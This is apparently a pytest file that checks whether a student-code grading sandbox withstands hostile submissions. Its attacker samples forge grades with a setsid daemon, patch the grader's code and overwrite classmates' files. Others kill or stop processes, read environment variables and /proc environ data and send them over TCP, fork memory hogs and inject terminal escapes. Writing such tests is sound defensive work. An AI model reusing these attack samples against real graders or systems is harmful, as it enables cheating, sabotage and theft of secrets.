"""Hostile submissions graded beside honest ones: each attack of issue 8 is a test here.

One ``gradprop grade`` run (a subprocess, as an instructor runs it) grades two honest
submissions and every attacker together. Each attacker also defines a correct ``MulLayer``, so
that what its layers earn is known: 1.00 of the 3 items counted. Every attack aims only at this
test's own folders and processes (paths and pids are written into the attackers' source), so
that a broken sandbox harms nothing but this test.

After the run: the honest students keep exactly their honest grades, each attacker gets exactly
what its layers earn, no file outside the output folder changed, no process of the run is left,
and the run ended with a grades.csv.
"""
from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import signal
import socket
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import pytest

import gradprop
from gradprop.isolation import probe
from gradprop.properties.registry import ITEMS
from test_sandbox import live_processes_mentioning

#: the items every test here counts; the rubrics turn every other item of the registry off
COUNTED = ("MulLayer", "AddLayer", "Relu")
RUBRIC = "".join(f"[items.{item.name}]\ncount = false\n" for item in ITEMS if item.name not in COUNTED)
FLAGS = ["--max-examples", "3", "--time-limit", "2", "--memory-mb", "1024", "-j", "2"]
SECRET = "gradprop-test-secret-9f2c"


def counting(*names: str):
    """A rubric that counts ``names`` and turns every other item of the registry off."""
    from gradprop.grading import Rubric

    return Rubric.from_dict({"items": {i.name: {"count": False} for i in ITEMS if i.name not in names}})

#: what every attacker's layers earn: MulLayer only
MUL_ONLY = '''
import numpy as np

class MulLayer:
    def forward(self, x, y):
        self.x, self.y = x, y
        return x * y
    def backward(self, dout):
        return dout * self.y, dout * self.x
'''

HONEST = MUL_ONLY + '''
class AddLayer:
    def forward(self, x, y):
        return x + y
    def backward(self, dout):
        return dout * 1, dout * 1

class Relu:
    def forward(self, x):
        self.mask = x <= 0
        out = x.copy()
        out[self.mask] = 0
        return out
    def backward(self, dout):
        dx = dout.copy()
        dx[self.mask] = 0
        return dx
'''

PRELUDE = '''
import os, signal, socket, sys, time

def _try(fn, *args):
    try:
        return fn(*args)
    except BaseException as exc:
        return exc

def _listdir(path):
    found = _try(os.listdir, path)
    return found if isinstance(found, list) else []

def _daemon(body):
    """Double-fork a setsid daemon that runs ``body`` for a while, outliving the grading run."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                body()
            finally:
                os._exit(0)
        os._exit(0)

_OWN_SESSIONS = {os.getsid(0)}

def _pids_mentioning(marker):
    """Processes of this test only (their command line names the test's folder), not our own."""
    _OWN_SESSIONS.add(os.getsid(0))
    found = []
    for entry in _listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            data = _try(lambda: open(f"/proc/{entry}/cmdline", "rb").read())
            sid = _try(os.getsid, int(entry))
            if isinstance(data, bytes) and marker.encode() in data and sid not in _OWN_SESSIONS:
                found.append(int(entry))
    return found
'''


def attackers(t: dict[str, str]) -> dict[str, str]:
    """name -> source; ``t`` holds this test's paths and pids."""
    return {
        # 1. raise its own grade after the run: a daemon rewrites its row and results.json
        "rewrites_grades": f'''
def _forge():
    deadline = time.time() + 25
    while time.time() < deadline:
        _try(lambda: open({t["out"]!r} + "/grades.csv", "a").write("rewrites_grades,3.00,3.00,1.00,1.00,1.00\\n"))
        _try(lambda: open({t["out"]!r} + "/rewrites_grades/results.json", "w").write('{{"score": 3.0}}'))
        time.sleep(0.2)
_daemon(_forge)
''',
        # 2. swap the grader's code (a new module, and the mtime of an existing one), then kill its
        #    grading process so that a fresh one would import the patched code
        "patches_grader": f'''
_try(lambda: open({t["package"]!r} + "/zz_attack_{t['fid']}.py", "w").write("x = 1\\n"))
_try(os.utime, {t["package"]!r} + "/grading.py", (0, 0))
_try(lambda: open({t["package"]!r} + "/grading.py", "a"))
_try(os.kill, os.getppid(), signal.SIGKILL)
''',
        # 3. zero a classmate: overwrite their file, and show their code in our feedback
        "zeroes_classmates": f'''
print("THEIR CODE:", _try(lambda: open({t["honest"]!r}).read()))
_try(lambda: open({t["honest"]!r}, "a").write("\\nraise SystemExit\\n"))
_try(lambda: open({t["honest2"]!r}, "w").write("raise SystemExit\\n"))
''',
        # 4. poison the compile cache for the next run
        "poisons_cache": f'''
for root, dirs, files in _try(os.walk, {t["cache"]!r}) or []:
    for f in files:
        _try(lambda: open(os.path.join(root, f), "wb").write(b"garbage"))
_try(lambda: open({t["cache"]!r} + "/planted", "w").write("x"))
''',
        # 5. kill the siblings: every process of this test's run, and a victim of the test's
        "kills_siblings": f'''
def _kill_all():
    for _ in range(50):
        for pid in _pids_mentioning({t["tag"]!r}) + [{t["victim"]}]:
            _try(os.kill, pid, signal.SIGKILL)
        time.sleep(0.1)
_daemon(_kill_all)
_try(os.kill, os.getppid(), signal.SIGKILL)
''',
        # 6. hang the run: stop the grading process, the CLI and the victim
        "stops_the_run": f'''
for pid in [os.getppid()] + _pids_mentioning({t["tag"]!r}) + [{t["victim"]}]:
    _try(os.kill, pid, signal.SIGSTOP)
''',
        # 7. crash the writer: lone surrogates and terminal escapes in printed text and messages
        "bad_text": '''
print("\\udc80 \\x1b[2J\\x1b]0;pwned\\x07 \\r\\u202e")
sys.stderr.write("\\udcff")
class AddLayer:
    def forward(self, x, y):
        raise ValueError("\\udc80\\x1b[31m red \\x00")
''',
        # 8. secrets, the network, and processes that outlive the run or its memory limit
        "reads_secrets": f'''
print("ENV:", dict(os.environ))
for pid in _listdir("/proc"):
    if pid.isdigit():
        print(pid, _try(lambda: open(f"/proc/{{pid}}/environ", "rb").read()))
s = socket.socket()
print("TCP:", _try(s.connect, ("127.0.0.1", {t["port"]})), _try(s.sendall, b"exfiltrated"))
''',
        "outlives_the_run": '''
_daemon(lambda: time.sleep(120))
if os.fork() == 0:
    time.sleep(120)
    os._exit(0)
''',
        "outgrows_memory": '''
for _ in range(6):   # each under the per-process cap, together far above --memory-mb
    if os.fork() == 0:
        blocks = [bytearray(1 << 20) for _ in range(300)]
        time.sleep(60)
        os._exit(0)
''',
    }


def snapshot(folder: Path) -> dict[str, str]:
    """Every file below ``folder`` and a hash of its bytes and mtime."""
    out = {}
    for p in sorted(folder.rglob("*")):
        if p.is_file() and "__pycache__" not in p.parts:
            st = p.stat()
            out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest() + f":{st.st_mtime_ns}"
    return out


class Listener:
    """A TCP server on 127.0.0.1 that records whether anyone connected."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.done = False
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def run(self):
        while not self.done:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self):
        self.done = True
        self.thread.join()
        self.sock.close()


def grade_run(paths: list[str], out: Path, env: dict[str, str], *extra: str, timeout: float = 600):
    return subprocess.run([sys.executable, "-m", "gradprop.cli", "grade", *paths, "--out", str(out), *FLAGS, *extra],
                          capture_output=True, text=True, env=env, timeout=timeout, stdin=subprocess.DEVNULL)


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    """One grading run of two honest submissions and every attacker."""
    root = tmp_path_factory.mktemp("attacks")
    tag = str(root)  # every process of this run names it: the CLI, its workers, each box
    fid = hashlib.sha256(tag.encode()).hexdigest()[:12]
    subs, out, cache, tmp = root / "subs", root / "out", root / "jax-cache", root / "tmp"
    for d in (subs, cache, tmp):
        d.mkdir()
    (cache / "entry").write_bytes(b"a compiled program")
    (root / "rubric.toml").write_text(RUBRIC)
    honest, honest2 = subs / "honest.py", subs / "honest_too.py"
    honest.write_text(HONEST)
    honest2.write_text(HONEST)
    victim = subprocess.Popen(["sleep", "600"])
    listener = Listener()
    targets = {"out": str(out), "package": os.path.dirname(gradprop.__file__), "honest": str(honest),
               "honest2": str(honest2), "cache": str(cache), "victim": str(victim.pid), "port": str(listener.port),
               "tag": tag, "fid": fid}
    names = attackers(targets)
    for name, body in names.items():
        (subs / f"{name}.py").write_text(PRELUDE + textwrap.dedent(body) + MUL_ONLY)
    before = {**snapshot(subs), **snapshot(cache), **snapshot(Path(targets["package"]))}
    env = {**os.environ, "TMPDIR": str(tmp), "GRADPROP_JAX_CACHE": str(cache), "GRADPROP_STORE": str(cache),
           "GRADPROP_SECRET": SECRET}  # the expected values the grader trusts live in the poisoner's reach
    try:
        proc = grade_run([str(p) for p in sorted(subs.glob("*.py"))], out, env, "--rubric", str(root / "rubric.toml"))
        time.sleep(1)  # a surviving daemon's time to do harm: five of the slowest attacker's tries
        after = {**snapshot(subs), **snapshot(cache), **snapshot(Path(targets["package"]))}
        survivors = live_processes_mentioning(tag)
        victim_state = victim.poll()
        yield {"proc": proc, "out": out, "names": names, "before": before, "after": after, "tag": tag,
               "survivors": survivors, "victim": victim_state, "listener": listener.connections}
    finally:
        victim.kill()
        victim.wait()
        listener.close()
        for pid in live_processes_mentioning(tag):
            os.kill(pid, signal.SIGCONT)
            os.kill(pid, signal.SIGKILL)
        leftover = Path(targets["package"]) / f"zz_attack_{fid}.py"
        if leftover.exists():
            leftover.unlink()


def sheet(out: Path) -> dict[str, list[str]]:
    rows = list(csv.reader(io.StringIO((out / "grades.csv").read_text(encoding="utf-8"))))
    return {row[0]: row for row in rows[1:]}


def test_the_run_ends_with_a_whole_grade_sheet(run):
    assert run["proc"].returncode == 0, run["proc"].stderr[-3000:]
    rows = sheet(run["out"])
    assert set(rows) == {"honest", "honest_too", *run["names"]}


def test_honest_students_keep_exactly_their_honest_grades(run):
    rows = sheet(run["out"])
    for name in ("honest", "honest_too"):
        assert rows[name][1:] == ["3.00", "3.00", "1.00", "1.00", "1.00"], rows[name]
        doc = json.loads((run["out"] / name / "results.json").read_text(encoding="utf-8"))
        assert doc["score"] == 3.0


@pytest.mark.parametrize("name", sorted(attackers({k: "0" for k in (
    "out", "package", "honest", "honest2", "cache", "victim", "port", "tag", "fid")})))
def test_an_attacker_gets_what_its_layers_earn_and_no_more(run, name):
    row = sheet(run["out"])[name]
    doc = json.loads((run["out"] / name / "results.json").read_text(encoding="utf-8"))
    if name == "outgrows_memory":  # the kernel may kill its MulLayer's process too: never more than 1
        assert float(row[1]) <= 1.0 and doc["score"] <= 1.0, row
        return
    assert row[1:] == ["1.00", "3.00", "1.00", "0.00", "0.00"], row
    assert doc["score"] == 1.0 and [t["score"] for t in doc["tests"]] == [1.0, 0.0, 0.0]


def test_no_file_outside_the_output_folder_changed(run):
    changed = sorted(k for k in run["before"] if run["before"][k] != run["after"].get(k))
    assert changed == []
    # new files only where the grader itself writes: its compile cache (not the attacker's "planted")
    added = sorted(k for k in set(run["after"]) - set(run["before"]) if "jax-cache" not in k or k.endswith("planted"))
    assert added == []


def test_no_process_of_the_run_survives_it_and_no_victim_was_touched(run):
    assert run["survivors"] == []
    assert run["victim"] is None, "the test's own sleep process was killed"


def test_no_secret_reaches_the_feedback_and_no_connection_was_made(run):
    for path in run["out"].rglob("*.json"):
        text = path.read_text(encoding="utf-8")
        assert SECRET not in text
        assert "THEIR CODE: \\nimport numpy" not in text and "class AddLayer" not in text
    assert run["listener"] == 0


def test_hostile_text_is_made_safe_in_every_output(run):
    raw = (run["out"] / "bad_text" / "results.json").read_bytes()
    text = raw.decode("utf-8")  # valid UTF-8
    assert "\x1b" not in text and "\udc80" not in text and "\\u001b" not in text and "\\u0000" not in text
    doc = json.loads(text)
    assert "red" in doc["tests"][1]["output"]  # the message is there, made harmless
    assert "\x1b" not in run["proc"].stdout + run["proc"].stderr


def test_isolation_in_force_is_printed_and_recorded(run):
    iso = probe()
    assert f"isolation: {', '.join(iso.on)}" in run["proc"].stderr
    doc = json.loads((run["out"] / "honest" / "results.json").read_text(encoding="utf-8"))
    assert doc["extra_data"]["gradprop"]["isolation"]["on"] == list(iso.on)


# --- determinism: clocks, entropy and files next to the submission -----------------------------

FICKLE = '''
import os, time
import numpy as np

SEEN = os.path.join(os.path.dirname(os.path.abspath(__file__)), "seen.txt")
EARLIER_RUN = os.path.exists(SEEN)   # a file left by an earlier run
open(SEEN, "w").write("seen")

class MulLayer:
    """Now and then wrong, by the clock or by an unseeded generator's whim."""
    def forward(self, x, y):
        self.x, self.y = x, y
        wrong = int(time.time() * 1e6) % 7 == 0 or np.random.default_rng().random() < 0.05
        return x * y * (2.0 if wrong else 1.0)
    def backward(self, dout):
        return dout * self.y, dout * self.x

class AddLayer:
    """Right on a first run, wrong on every later one."""
    def forward(self, x, y):
        return x + y + (1.0 if EARLIER_RUN else 0.0)
    def backward(self, dout):
        return dout * 1, dout * 1
'''


def test_a_fickle_submission_gets_the_same_grade_and_feedback_on_every_run(tmp_path):
    from gradprop.grading import GradeOptions, grade_submission

    path = tmp_path / "fickle.py"
    path.write_text(FICKLE)
    rubric = counting("MulLayer", "AddLayer")
    options = GradeOptions(rubric=rubric, max_examples=10, time_limit=5.0)
    runs = [grade_submission(path, options) for _ in range(3)]
    outcomes = [[(r.score, r.tags, r.output) for r in run.items] for run in runs]
    assert outcomes[0] == outcomes[1] == outcomes[2]
    assert runs[0].items[1].score == 1  # AddLayer: every run is a first run
    assert not (tmp_path / "seen.txt").exists()  # it wrote into its scratch copy, not here


# --- the CLI: bad values, odd names, interruptions, a wedged worker ------------------------------


@pytest.mark.parametrize("flags, error", [
    (["--time-limit", "nan"], "--time-limit must be"),
    (["--time-limit", "inf"], "--time-limit must be"),
    (["--time-limit", "1e-9"], "--time-limit must be"),
    (["--memory-mb", "0"], "--memory-mb must be at least"),
    (["--memory-mb", "-1"], "--memory-mb must be at least"),
    (["-j", "-3"], "-j must be at least 1"),
    (["-j", "0"], "-j must be at least 1"),
])
def test_bad_values_are_clear_errors(tmp_path, capsys, flags, error):
    from gradprop import cli

    sub = tmp_path / "s.py"
    sub.write_text(HONEST)
    assert cli.main(["grade", str(sub), "--out", str(tmp_path / "out"), *flags]) == 2
    assert error in capsys.readouterr().err
    assert not (tmp_path / "out").exists()


def test_an_output_path_that_is_a_file_and_a_nameless_submission_are_clear_errors(tmp_path, capsys, monkeypatch):
    from gradprop import cli

    (tmp_path / "s.py").write_text(HONEST)
    (tmp_path / "taken").write_text("not a folder")
    assert cli.main(["grade", str(tmp_path / "s.py"), "--out", str(tmp_path / "taken")]) == 2
    assert "exists and is not a folder" in capsys.readouterr().err
    inner = tmp_path / "a" / "b"
    inner.mkdir(parents=True)
    monkeypatch.chdir(inner)
    assert cli.main(["grade", "..", "--out", str(tmp_path / "out")]) == 2
    assert "not a relative path like '..'" in capsys.readouterr().err
    assert not (tmp_path / "out").exists() and not (tmp_path / "a" / "results.json").exists()


def test_odd_file_names_cannot_stop_the_run(tmp_path):
    subs = tmp_path / "subs"
    subs.mkdir()
    latin1 = os.path.join(os.fsencode(subs), b"caf\xe9.py")  # an LMS export that is not UTF-8
    with open(latin1, "wb") as f:
        f.write(MUL_ONLY.encode())
    (subs / "grades.csv.tmp.py").write_text(MUL_ONLY)
    (tmp_path / "rubric.toml").write_text(RUBRIC)
    out = tmp_path / "out"
    paths = [os.fsdecode(latin1), str(subs / "grades.csv.tmp.py")]
    proc = grade_run(paths, out, {**os.environ, "TMPDIR": str(tmp_path)}, "--rubric", str(tmp_path / "rubric.toml"))
    assert proc.returncode == 0, proc.stderr[-2000:]
    rows = sheet(out)
    assert rows["caf\ufffd"][1] == "1.00" and rows["grades.csv.tmp"][1] == "1.00"
    assert os.path.isfile(os.path.join(os.fsencode(out), b"caf\xe9", b"results.json"))


def test_ctrl_c_keeps_what_finished_and_a_rerun_grades_only_the_rest(tmp_path):
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "a.py").write_text(HONEST)
    # b takes 30 s to import: the interrupt comes while it is graded, however fast the grader
    (subs / "b.py").write_text("import time\ntime.sleep(30)\n" + HONEST)
    (subs / "c.py").write_text(HONEST)
    (tmp_path / "rubric.toml").write_text(RUBRIC)
    out = tmp_path / "out"
    cmd = [sys.executable, "-m", "gradprop.cli", "grade", *map(str, sorted(subs.glob("*.py"))), "--out", str(out),
           "--max-examples", "3", "-j", "1", "--time-limit", "60", "--rubric", str(tmp_path / "rubric.toml")]
    env = {**os.environ, "TMPDIR": str(tmp_path)}
    # Ctrl-C as a terminal's foreground job gets it: a run started in the background of a
    # non-interactive shell (as CI scripts may be) inherits SIGINT ignored, and rightly keeps it so.
    # SIGINT's default is set, then the grader exec'd (no preexec_fn: this process has threads)
    foreground = [sys.executable, "-c", "import os, signal, sys; signal.signal(signal.SIGINT, signal.SIG_DFL); "
                  "os.execv(sys.executable, sys.argv[1:])"]
    proc = subprocess.Popen(foreground + cmd, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 300
    while not (out / "a" / "results.json").exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 130, (proc.returncode, err[-3000:])
    assert "interrupted" in err
    finished = sheet(out)
    assert "a" in finished and finished["a"][1] == "3.00"
    assert live_processes_mentioning(str(tmp_path)) == []
    (subs / "b.py").write_text(HONEST)  # b was not finished: graded again as it is now
    again = subprocess.run(cmd, env=env, capture_output=True, text=True, timeout=600)
    assert again.returncode == 0
    assert f"{len(finished)} submission(s) kept from an earlier run" in again.stderr
    assert {n: r[1] for n, r in sheet(out).items()} == {"a": "3.00", "b": "3.00", "c": "3.00"}


def test_a_stopped_worker_is_killed_and_its_submission_tried_again(tmp_path, monkeypatch):
    """The attack (SIGSTOP of a worker) cannot come from a submission any more; the CLI must still
    never wait without a timeout. The test stops the first worker that starts a job."""
    from gradprop import cli
    from gradprop.grading import GradeOptions, Rubric

    (tmp_path / "s.py").write_text(HONEST)
    rubric = Rubric.load(_write(tmp_path / "rubric.toml", RUBRIC))
    options = GradeOptions(rubric=rubric, max_examples=3)
    stopped: list[int] = []
    real_deadline = cli._Worker.deadline

    def deadline(self, opts):
        if self.started_at is not None and not stopped:
            os.kill(self.proc.pid, signal.SIGSTOP)  # wedged right after it said "started"
            stopped.append(self.proc.pid)
        if self.proc.pid in stopped:  # the wedged one: no need to wait its whole budget
            return self.started_at + 1.0
        return real_deadline(self, opts)  # the retry gets the real deadline (a busy machine is slow)

    monkeypatch.setattr(cli._Worker, "deadline", deadline)
    results = cli.grade_all([("s", str(tmp_path / "s.py"))], options, 1, lambda r: None)
    assert stopped and not os.path.exists(f"/proc/{stopped[0]}/status")  # killed (and reaped)
    assert [float(r.score) for r in results] == [3.0]


def test_a_malformed_reply_costs_its_item_only(tmp_path):
    from gradprop.grading import GradeOptions, grade_submission

    path = tmp_path / "forger.py"
    path.write_text(MUL_ONLY.replace("        return dout * self.y, dout * self.x", '''        import os, sys, struct
        fd = int(sys.argv[-2])  # the reply pipe: forge a frame the parent must refuse
        head = b'{"ok": true, "value": {"a": ["<f8", [3, 99999999999]]}, "args": {"t": []}, "aliases": [[1]]}'
        os.write(fd, struct.pack("<4sQQ", b"GPW1", len(head), 8) + head + bytes(8))
        return dout * self.y, dout * self.x''') + "\nclass AddLayer:" + HONEST.split("class AddLayer:")[1].split("class Relu:")[0])
    rubric = counting("MulLayer", "AddLayer")
    result = grade_submission(path, GradeOptions(rubric=rubric, max_examples=3))
    mul, add = result.items
    assert mul.score == 0 and "malformed reply" in mul.output
    assert add.score == 1 and not result.errors


def _write(path: Path, text: str) -> str:
    path.write_text(text)
    return str(path)


# --- each layer on its own: what the child can reach --------------------------------------------


def test_the_child_can_write_only_its_scratch_and_read_nothing_of_the_graders(tmp_path):
    from gradprop.sandbox import SandboxSession

    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    outside = tmp_path / "written.txt"
    sub = tmp_path / "sub"
    sub.mkdir()
    (sub / "probe.py").write_text(textwrap.dedent(f'''
        import os
        def attempt(what):
            try:
                if what == "read":
                    return open({str(secret)!r}).read()
                if what == "write":
                    open({str(outside)!r}, "w").write("x")
                    return "written"
                if what == "home":
                    return sorted(os.listdir(os.path.expanduser("~root")))
                if what == "scratch":
                    open("mine.txt", "w").write("x")
                    return open("mine.txt").read()
                if what == "env":
                    return sorted(os.environ)
            except OSError as exc:
                return type(exc).__name__
    '''))
    with SandboxSession(sub / "probe.py") as s:
        assert s.call("attempt", None, "read").value in ("PermissionError", "FileNotFoundError")
        assert s.call("attempt", None, "write").value in ("PermissionError", "FileNotFoundError", "OSError")
        assert s.call("attempt", None, "home").value in ("PermissionError", "FileNotFoundError")
        assert s.call("attempt", None, "scratch").value == "x"
        names = s.call("attempt", None, "env").value
    assert not outside.exists()
    assert "GRADPROP_SECRET" not in names and set(names) <= {
        "PATH", "LANG", "LC_ALL", "HOME", "TMPDIR", "PWD", "OPENBLAS_NUM_THREADS", "OMP_NUM_THREADS",
        "MKL_NUM_THREADS", "NUMEXPR_NUM_THREADS", "VECLIB_MAXIMUM_THREADS", "PYTHONHASHSEED",
        "PYTHONDONTWRITEBYTECODE", "PYTHONNOUSERSITE", "PYTHONIOENCODING", "OPENBLAS_CORETYPE",
        "OPENBLAS_L2_SIZE", "LD_LIBRARY_PATH", "LC_CTYPE"}


def test_the_child_can_neither_signal_out_nor_connect(tmp_path, monkeypatch):
    from gradprop.sandbox import SandboxSession

    monkeypatch.setenv("GRADPROP_SECRET", SECRET)
    victim = subprocess.Popen(["sleep", "600"])
    listener = Listener()
    path = tmp_path / "probe.py"
    path.write_text(textwrap.dedent(f'''
        import os, signal, socket
        def attempt(what):
            try:
                if what == "signal":
                    os.kill({victim.pid}, signal.SIGKILL)
                    return "sent"
                if what == "tcp":
                    socket.create_connection(("127.0.0.1", {listener.port}), timeout=2).sendall(b"x")
                    return "connected"
            except OSError as exc:
                return type(exc).__name__
    '''))
    try:
        with SandboxSession(path) as s:
            assert s.call("attempt", None, "signal").value in ("ProcessLookupError", "PermissionError")
            assert s.call("attempt", None, "tcp").value != "connected"
        time.sleep(0.3)
        assert victim.poll() is None and listener.connections == 0
    finally:
        victim.kill()
        victim.wait()
        listener.close()


def test_strict_isolation_refuses_to_grade_without_every_layer(tmp_path, capsys, monkeypatch):
    from gradprop import cli, isolation

    lacking = isolation.Isolation(("scratch", "env", "rlimits"), (("namespaces", "no bwrap here"),))
    with pytest.raises(isolation.IsolationError, match="no bwrap here"):
        lacking.require("strict")
    lacking.require("auto")  # auto grades with what there is
    monkeypatch.setattr(cli, "probe", lambda: lacking)
    (tmp_path / "s.py").write_text(HONEST)
    assert cli.main(["grade", str(tmp_path / "s.py"), "--out", str(tmp_path / "out"), "--isolation", "strict"]) == 2
    assert "--isolation strict: this machine lacks namespaces (no bwrap here)" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()
